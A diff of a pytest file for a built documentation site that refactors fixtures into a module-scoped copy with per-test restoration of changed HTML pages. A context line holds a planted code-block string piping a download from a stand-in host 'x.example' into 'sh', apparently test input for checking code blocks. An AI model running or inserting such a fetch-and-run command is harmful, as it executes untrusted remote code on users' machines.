@@ -26,11 +26,21 @@ RAW = ('\n<div class="language-bash highlight"><pre><span></span><code>accelerat
        'https://x.example/p | sh\n</code></pre></div>\n')
 
 
-@pytest.fixture
-def site(built_site, tmp_path):
-    copy = tmp_path / "site"
+@pytest.fixture(scope="module")
+def copied(built_site, tmp_path_factory):
+    copy = tmp_path_factory.mktemp("code-blocks") / "site"
     shutil.copytree(built_site, copy, symlinks=True)
     return copy
+
+
+@pytest.fixture
+def site(copied):
+    """The module's copy of the built site; the pages a test changes are put back after it."""
+    before = {path: path.read_bytes() for path in copied.rglob("*.html")}
+    yield copied
+    for path, data in before.items():
+        if path.read_bytes() != data:
+            path.write_bytes(data)
 
 
 def plant(site, page: str, new: str, old: str = ACCELERATE_END) -> None:
